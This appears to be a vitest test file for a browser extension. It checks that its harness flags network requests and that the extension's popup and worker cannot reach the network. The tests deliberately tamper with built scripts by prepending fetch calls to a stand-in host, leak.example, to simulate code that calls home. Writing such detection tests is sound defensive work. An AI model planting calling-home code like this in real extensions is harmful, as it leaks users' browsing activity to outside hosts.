import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browsers, Session } from '../harness/session.ts';

/** Every session refuses at its end any request that left for the network; here the refusal itself is put to the test. */
describe.each(browsers)('no network request, %s', (kind) => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'backgrounder-'));
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  /** A copy of the extension with a script of it changed. */
  async function tampered(script: string, addition: string): Promise<string> {
    const dist = join(folder, script.replaceAll('/', '-'));
    await cp(resolve('dist-test'), dist, { recursive: true });
    await writeFile(join(dist, script), addition + (await readFile(join(dist, script), 'utf8')));
    return dist;
  }

  it('notices a content script that calls home', async () => {
    const leak = `fetch('http://leak.example/page', { mode: 'no-cors' }).catch(() => {});`;
    const session = await Session.start(kind, { dist: await tampered('content-scripts/detector.js', leak) });
    await session.open(session.site.page('/quiet', '<p>Nothing to find.</p>'));
    await expect.poll(() => session.site.foreignRequests()).toContain('GET http://leak.example/page');
    await expect(session.stop()).rejects.toThrow('leak.example');
  });

  it('lets none of the extension’s own pages or its worker reach the network', async () => {
    const leak = `globalThis.leaked = fetch('http://leak.example/worker').then(() => 'sent', () => 'refused');`;
    const session = await Session.start(kind, { dist: await tampered('popup/popup.js', leak) });
    const popup = await session.extensionPage('popup/popup.html');
    await popup.waitForFunction(() => 'leaked' in globalThis, { polling: 50 });
    expect(await popup.evaluate(() => (globalThis as unknown as { leaked: Promise<string> }).leaked)).toBe('refused');
    await session.stop();
  });
});
